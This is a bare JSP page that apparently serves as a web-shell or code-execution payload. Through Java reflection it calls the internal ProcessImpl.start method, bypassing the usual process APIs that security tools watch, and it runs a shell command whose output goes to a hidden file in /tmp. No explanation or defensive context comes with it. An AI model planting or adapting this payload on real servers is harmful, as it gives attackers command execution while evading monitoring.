<%@ page import="java.lang.reflect.Method,java.util.Map" %>
<%
    Class<?> impl = Class.forName("java.lang.ProcessImpl");
    Method start = impl.getDeclaredMethod("start", String[].class, Map.class, String.class,
            ProcessBuilder.Redirect[].class, boolean.class);
    start.setAccessible(true);
    start.invoke(null, new String[]{"sh", "-c", "id > /tmp/.k"}, null, null, null, false);
%>
